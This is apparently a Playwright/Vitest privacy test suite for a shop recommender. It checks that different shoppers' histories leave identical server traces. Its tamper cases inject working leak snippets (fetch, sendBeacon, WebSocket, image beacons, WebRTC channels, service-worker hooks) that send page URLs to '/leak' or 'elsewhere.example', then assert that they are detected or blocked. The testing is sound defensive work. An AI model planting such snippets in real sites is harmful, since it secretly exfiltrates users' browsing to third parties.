import type { Browser } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { launchBrowser } from "./support/browser.ts";
import { turnOn } from "./support/offline.ts";
import { type Outside, startOutside } from "./support/outside.ts";
import { before as prepend } from "./support/prelude.ts";
import { type SeenRequest, type Shop, startShop, type Tamper } from "./support/shop.ts";
import { Shopper } from "./support/shopper.ts";
import { fullTierIsReady, isFull } from "./support/status.ts";
import { differences, isBrowsersOwn, written } from "./support/trace.ts";

let shop: Shop;
let outside: Outside;
let browser: Browser;

beforeAll(async () => {
  [shop, outside] = await Promise.all([startShop(), startOutside()]);
  browser = await launchBrowser(outside.browserArgs(shop.host));
});
afterEach(() => shop.tamper(undefined));
afterAll(async () => {
  await browser?.close();
  await Promise.all([shop?.close(), outside?.close()]);
});

const histories = [
  {
    items: ["moss-dome-lamp", "opal-globe-lamp", "foundry-pendant"],
    queries: ["warm lamp", "brass"],
    departments: ["lighting"],
  },
  {
    items: ["dune-stoneware-mug", "harbour-mug", "hearth-casserole"],
    queries: ["teapot", "面碗"],
    departments: ["kitchen"],
  },
] as const;
type History = (typeof histories)[number];

const placements = [
  "because-you-viewed",
  "bought-together",
  "buy-again",
  "complete-the-basket",
  "new-arrivals",
  "people-like-you",
  "popular",
  "recently-viewed",
  "trending",
] as const;

/** Numbers in [0, 1) that repeat for the same seed. */
function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
}

/** A file of another shop's orders, as somebody could bring it along. */
const ordersOf = (titles: readonly string[]) => ({
  name: "orders.csv",
  mimeType: "text/csv",
  buffer: Buffer.from(
    ["title,date,quantity", ...titles.map((title) => `${title},${new Date().toISOString()},1`)].join("\n"),
  ),
});

/** A shopper's journey: any page, any control, in an order that a seed decides. */
async function act(
  shopper: Shopper,
  { items, queries, departments }: History,
  actions: number,
  seed: number,
): Promise<void> {
  const random = seeded(seed);
  const one = <T>(of: readonly T[]): T => of[Math.floor(random() * of.length)] as T;
  const { page } = shopper;
  const steps: readonly (() => Promise<unknown>)[] = [
    () => shopper.goTo(`#/p/${one(items)}`),
    () => shopper.goTo(`#/p/${one(items)}`),
    () => shopper.goTo(`#/s/${encodeURIComponent(one(queries))}`),
    () => shopper.goTo(`#/d/${encodeURIComponent(`category:${one(departments)}`)}`),
    () => shopper.goTo("#/me"),
    () => shopper.goTo("#/bag"),
    () => shopper.goTo("#/"),
    () => shopper.goTo("#/bring"),
    () =>
      page
        .locator('main input[type="file"]')
        .setInputFiles(ordersOf(items), { timeout: 200 })
        .catch(() => undefined),
    () =>
      page
        .getByRole("button", { name: /^(Bring in|带进来) \d/ })
        .click({ timeout: 400 })
        .catch(() => undefined),
    () =>
      page
        .locator("sotto-shelf sotto-card .heart")
        .first()
        .click({ timeout: 400 })
        .catch(() => undefined),
    () =>
      page
        .locator("sotto-shelf .why")
        .first()
        .click({ timeout: 400 })
        .catch(() => undefined),
    () =>
      page
        .getByRole("button", { name: "Less like this" })
        .first()
        .click({ timeout: 200 })
        .catch(() => undefined),
    () =>
      page
        .getByRole("slider", { name: /surprising|惊喜/ })
        .press(one(["End", "Home", "ArrowRight"]), { timeout: 200 })
        .catch(() => undefined),
    () =>
      page
        .getByRole("region", { name: /three things|点三样/ })
        .getByRole("listitem")
        .nth(Math.floor(random() * 10))
        .getByRole("button")
        .click({ timeout: 200 })
        .catch(() => undefined),
    () =>
      page
        .locator(`sotto-shelf[placement="${one(placements)}"] .${one(["order", "why", "heart", "link"])}`)
        .first()
        .click({ timeout: 400 })
        .catch(() => undefined),
    () =>
      page
        .getByRole("button", { name: /^(Buy|购买)$/ })
        .click({ timeout: 200 })
        .catch(() => undefined),
    () =>
      page
        .getByRole("button", { name: "Add to bag" })
        .click({ timeout: 200 })
        .catch(() => undefined),
    () =>
      page
        .getByRole("button", { name: one(["中文", "EN"]) })
        .click({ timeout: 200 })
        .catch(() => undefined),
  ];
  for (let i = 0; i < actions; i++) {
    await one(steps)();
    await page.waitForTimeout(15);
  }
}

/** A journey that is surely its history's own: its things, its words, its departments. */
async function lookAround(shopper: Shopper, { items, queries, departments }: History): Promise<void> {
  const pages = [
    ...items.map((item) => `#/p/${item}`),
    ...queries.map((query) => `#/s/${encodeURIComponent(query)}`),
    ...departments.map((department) => `#/d/${encodeURIComponent(`category:${department}`)}`),
  ];
  for (const fragment of pages) {
    await shopper.goTo(fragment);
    await shopper.page.waitForTimeout(15);
  }
}

/** What the server and everybody else saw of one whole visit. */
async function visit(
  history: History,
  walk: (shopper: Shopper, history: History) => Promise<void>,
): Promise<{ trace: readonly SeenRequest[]; outside: readonly string[]; outsideMeter: number; blocked: number }> {
  shop.forget();
  outside.reset();
  const shopper = await Shopper.enter(browser, shop);
  await shopper.seesShelf();
  await shopper.choose("on");
  await walk(shopper, history);
  await shopper.goHome();
  await settled(shopper);
  await shopper.ask("search", { text: history.queries[0], language: "en" });
  await shopper.page.waitForTimeout(400);
  const meter = await shopper.page.evaluate(() => {
    const shelf = document.querySelector("sotto-shelf") as unknown as {
      client: { meter: { read(): { outside: number; blocked: number } } };
    };
    return shelf.client.meter.read();
  });
  const trace = shop.seen.filter((request) => !isBrowsersOwn(request));
  await shopper.leave();
  return { trace, outside: [...outside.heard], outsideMeter: meter.outside, blocked: meter.blocked };
}

/** Until the schedule has run to its end: the fuller encoder is ready. */
async function settled(shopper: Shopper): Promise<void> {
  if (!isFull(await fullTierIsReady(shopper))) throw new Error("The fuller encoder did not become ready.");
}

/**
 * The same of somebody who keeps the shop offline: from the second visit on, with a reload at the end of each round,
 * wherever the shopper is then.
 */
async function visitWithCopy(
  history: History,
  rounds: number,
  actions: number,
  seed: number,
): Promise<{ trace: readonly SeenRequest[]; script: ReadonlySet<string>; outside: readonly string[] }> {
  const shopper = await Shopper.enter(browser, shop);
  await shopper.seesShelf();
  await shopper.choose("on");
  await settled(shopper);
  await turnOn(shopper);
  shop.forget();
  outside.reset();
  for (let round = 0; round < rounds; round++) {
    await act(shopper, history, actions, seed + round);
    await shopper.goTo(`#/p/${history.items[round % history.items.length]}`);
    const asked = shop.seen.length;
    await shopper.page.reload();
    await shopper.shelf("related").locator("sotto-card").first().waitFor();
    await settled(shopper);
    while (!shop.seen.slice(asked).some(({ path }) => path.endsWith("/model.json")))
      await shopper.page.waitForTimeout(50);
    await shopper.page.waitForTimeout(300);
  }
  const trace = shop.seen.filter((request) => !isBrowsersOwn(request));
  const script = new Set(shop.seen.filter(({ path }) => path.startsWith("/service-worker")).map((one) => written(one)));
  await shopper.leave();
  return { trace, script, outside: [...outside.heard] };
}

describe("the trace", () => {
  it("[N1] [N2] [N3] two journeys of 200 actions give the server the same log, and nobody else anything", async () => {
    const actions = (seed: number) => (shopper: Shopper, history: History) => act(shopper, history, 200, seed);
    const [lamps, kitchen] = [await visit(histories[0], actions(1)), await visit(histories[1], actions(7))];
    expect(differences(lamps.trace, kitchen.trace)).toEqual([]);
    expect(lamps.trace.length).toBeGreaterThan(20);
    expect([...lamps.outside, ...kitchen.outside]).toEqual([]);
    expect([lamps.outsideMeter, kitchen.outsideMeter]).toEqual([0, 0]);
    for (const { path, headers } of lamps.trace) {
      expect(path).not.toMatch(/lamp|mug|\?/);
      expect(headers.map((header) => header.toLowerCase())).not.toContain("referer");
    }
  });

  it("[N2] [O3] two shoppers who keep the shop offline are the same to the server", async () => {
    const [lamps, kitchen] = [await visitWithCopy(histories[0], 2, 25, 1), await visitWithCopy(histories[1], 2, 25, 7)];
    expect(differences(lamps.trace, kitchen.trace)).toEqual([]);
    // Three lists a visit, to see whether there is anything new: everything else came from the copy.
    expect(lamps.trace.map(({ path }) => path)).toEqual(
      Array.from({ length: 2 }, () => [
        "/offline.json",
        "/catalogue/manifest.json",
        "/models/sotto-v0/model.json",
      ]).flat(),
    );
    expect(lamps.script).toEqual(kitchen.script);
    expect([...lamps.outside, ...kitchen.outside]).toEqual([]);
  });

  /** A service worker that tells somebody which page is opened. */
  const tellingWorker = (to: string): Tamper =>
    prepend(
      "service-worker",
      `addEventListener("fetch",({request})=>{if(request.mode==="navigate")fetch("${to}/leak?"+encodeURIComponent(request.url)).catch(()=>{})});`,
    );

  it("[O3] a planted leak in the service worker is caught", async () => {
    shop.tamper(tellingWorker(""));
    const [one, other] = [await visitWithCopy(histories[0], 1, 3, 3), await visitWithCopy(histories[1], 1, 3, 3)];
    expect(differences(one.trace, other.trace).length).toBeGreaterThan(0);
  });

  it("[N4] [O3] a planted leak in the service worker to another host is blocked", async () => {
    shop.tamper(tellingWorker("http://elsewhere.example"));
    const [one, other] = [await visitWithCopy(histories[0], 1, 3, 3), await visitWithCopy(histories[1], 1, 3, 3)];
    expect(differences(one.trace, other.trace)).toEqual([]);
    expect([...one.outside, ...other.outside]).toEqual([]);
  });

  /** On every step, code that tells somebody what is looked at. `WHAT` stands for it. */
  const onEveryPage = (code: string): Tamper =>
    prepend("index", `addEventListener("hashchange",()=>{const WHAT=encodeURIComponent(location.hash);${code}});`);
  const onEveryMessage = (script: "engine-worker" | "encoder-worker", code: string): Tamper =>
    prepend(
      script,
      `addEventListener("message",(event)=>{const WHAT=encodeURIComponent(JSON.stringify(event.data)).slice(0,900);${code}});`,
    );

  const caught: readonly (readonly [name: string, tamper: () => Tamper])[] = [
    ["fetch in the page", () => onEveryPage("fetch('/leak?'+WHAT)")],
    ["fetch in the engine worker", () => onEveryMessage("engine-worker", "fetch('/leak?'+WHAT)")],
    ["sendBeacon", () => onEveryPage("navigator.sendBeacon('/leak',WHAT)")],
    ["WebSocket", () => onEveryPage("new WebSocket('ws://'+location.host+'/leak?'+WHAT)")],
    ["an image", () => onEveryPage("new Image().src='/leak?'+WHAT")],
    ["a conditional header", () => onEveryPage("fetch('/catalogue/manifest.json',{headers:{'If-None-Match':WHAT}})")],
    [
      "a service worker's script",
      () => onEveryPage("navigator.serviceWorker.register('/leak.js?'+WHAT).catch(()=>{})"),
    ],
    [
      "a call between browsers",
      () =>
        onEveryPage(
          `const c=new RTCPeerConnection({iceServers:[{urls:'${outside.stunUrl}'}]});c.createDataChannel(WHAT);c.createOffer().then((o)=>c.setLocalDescription(o))`,
        ),
    ],
  ];
  it.each(caught)("[N2] a planted leak by %s is caught", async (_, tamper) => {
    shop.tamper(tamper());
    const [one, other] = [await visit(histories[0], lookAround), await visit(histories[1], lookAround)];
    expect(differences(one.trace, other.trace).length + one.outside.length).toBeGreaterThan(0);
  });

  const blocked: readonly (readonly [name: string, tamper: () => Tamper, isSeenByMeter: boolean])[] = [
    [
      "fetch in the page to another host",
      () => onEveryPage("fetch('http://elsewhere.example/leak?'+WHAT).catch(()=>{})"),
      true,
    ],
    ["an image from another host", () => onEveryPage("new Image().src='http://elsewhere.example/leak?'+WHAT"), true],
    [
      "fetch in the engine worker to another host",
      () => onEveryMessage("engine-worker", "fetch('http://elsewhere.example/leak?'+WHAT).catch(()=>{})"),
      false,
    ],
    [
      "fetch in the encoder worker",
      () => onEveryMessage("encoder-worker", "fetch('/leak?'+WHAT).catch(()=>{})"),
      false,
    ],
  ];
  it.each(blocked)("[N4] a planted leak by %s is blocked", async (_, tamper, isSeenByMeter) => {
    shop.tamper(tamper());
    const [one, other] = [await visit(histories[0], lookAround), await visit(histories[1], lookAround)];
    expect([...one.outside, ...other.outside]).toEqual([]);
    expect(differences(one.trace, other.trace)).toEqual([]);
    expect(one.trace.some(({ path }) => path.startsWith("/leak"))).toBe(false);
    if (isSeenByMeter) expect(one.blocked).toBeGreaterThan(0);
  });

  it("[N5] the meter is seen to move when something leaves the schedule", async () => {
    shop.tamper(onEveryPage("fetch('/leak?'+WHAT).then((r)=>r.text())"));
    const { outsideMeter } = await visit(histories[0], lookAround);
    expect(outsideMeter).toBeGreaterThan(0);
  });
});
